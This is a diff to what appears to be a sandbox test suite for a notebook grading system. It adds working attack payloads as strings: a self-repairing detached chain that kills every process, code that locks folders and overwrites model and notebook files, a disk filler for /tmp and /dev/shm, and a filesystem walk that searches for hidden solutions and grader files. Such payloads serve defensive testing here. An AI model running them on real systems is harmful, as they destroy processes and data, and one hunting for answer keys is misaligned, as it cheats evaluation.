@@ -21,6 +21,74 @@ HONEST_RAISING_GRAM = {"gram": 'def gram(t):\n    raise ValueError("collected: n
 WRONG_GRAM = {"gram": "def gram(t):\n    return t.T @ t\n"}
 
 
+
+KILL_EVERY_PID = """
+def _act(spared):
+    # Every pid handed out so far, listed or not (a process that is not dumpable hides from /proc).
+    try:
+        last = int(open("/proc/sys/kernel/ns_last_pid").read())
+    except (OSError, ValueError):
+        last = 1 << 15
+    for pid in range(2, last + 256):
+        if pid not in spared:
+            try:
+                os.kill(pid, signal.SIGKILL)
+            except OSError:
+                pass
+"""
+
+LOCK_AND_OVERWRITE = """
+def _act(spared):
+    places = glob.glob("/tmp/*") + glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root/tmp")
+    for place in places:
+        for path in [place] + glob.glob(os.path.join(place, "**"), recursive=True)[:200]:
+            try:
+                if os.path.isdir(path):
+                    os.chmod(path, 0o500)
+                elif path.endswith((".pth", ".pt", ".ipynb")):
+                    open(path, "wb").write(b"tampered")
+            except OSError:
+                pass
+"""
+
+
+def self_repairing(*, name: str, seconds: int, action: str = KILL_EVERY_PID) -> str:
+    """Cell source: a detached chain (double fork, setsid) that runs ``action``'s ``_act`` every 20 ms.
+
+    Each link keeps a standby child that takes over when the link is killed, so a
+    clean-up that kills the processes it finds once always misses the standby. The
+    processes are named ``name`` (at most 15 characters), so a test can look for them.
+    """
+    return f"""
+import ctypes, glob, os, signal, time
+{action}
+def _chain(until):
+    ctypes.CDLL(None).prctl(15, {name.encode()!r}, 0, 0, 0)
+    while time.time() < until:
+        me = os.getpid()
+        try:
+            standby = os.fork()
+        except OSError:
+            standby = -1
+        if standby == 0:  # wait for the link above to be killed, then take its place
+            while os.getppid() == me and time.time() < until:
+                time.sleep(0.005)
+            continue
+        while time.time() < until:
+            _act({{me, standby, 1}})
+            time.sleep(0.02)
+            if standby > 0 and os.waitpid(standby, os.WNOHANG)[0]:
+                break  # the standby died: make another
+    os._exit(0)
+
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        _chain(time.time() + {seconds})
+    os._exit(0)
+"""
+
+
 @dataclass(frozen=True)
 class Attack:
     name: str
@@ -214,6 +282,48 @@ for index in range(100000):
         time.sleep(1000)
         os._exit(0)
 """,), needs_root=True),
+    Attack("detached_killer",
+           "a detached, self-repairing process chain that SIGKILLs every process it may signal, for half a minute",
+           (self_repairing(name="killer", seconds=30) + "\ntime.sleep(0.5)\n",), needs_root=True),
+    Attack("fill_scratch",
+           "fills its working directory, /tmp, /var/tmp and /dev/shm with files just under the size limit",
+           ("""
+import os
+for folder in ("/tmp", "/var/tmp", "/dev/shm", os.getcwd()):
+    for index in range(64):
+        try:
+            with open(os.path.join(folder, f"filler-{index}.bin"), "wb") as handle:
+                for _ in range(255):
+                    handle.write(bytes(1 << 20))
+        except OSError:
+            break
+""",), needs_root=True),
+    Attack("tamper_neighbours",
+           "a detached, self-repairing process chain that locks other notebooks' folders and overwrites every "
+           ".pth and notebook it finds, for half a minute",
+           (self_repairing(name="tamperer", seconds=30, action=LOCK_AND_OVERWRITE) + "\ntime.sleep(0.5)\n",),
+           needs_root=True),
+    Attack("walk_everything", "walks the whole visible file system for copies of the suites and solutions",
+           ("""
+import os, time
+FOUND = []
+deadline = time.monotonic() + 10
+for folder, dirs, files in os.walk("/"):
+    if folder == "/":
+        dirs[:] = [d for d in dirs if d not in ("proc", "sys")]
+    for name in files:
+        if not name.endswith((".py", ".ipynb", ".txt", ".md")):
+            continue
+        try:
+            text = open(os.path.join(folder, name), errors="replace").read(200_000)
+        except OSError:
+            continue
+        if "BEGIN SOLUTION" in text or "mark.grade" in text or "expect_tensor" in text:
+            FOUND.append(os.path.join(folder, name) + "\n" + text)
+    if time.monotonic() > deadline:
+        break
+""", LEAK_THROUGH_ERRORS),
+           honest=HONEST_RAISING_GRAM, needs_root=True),
     Attack("flood_output", "prints 50 MB, through print and straight to the file descriptor",
            ("print('x' * (50 << 20))\nimport os\nos.write(1, b'y' * (50 << 20))",)),
     Attack("wipe_workdir", "deletes every file in its working directory and moves to /",
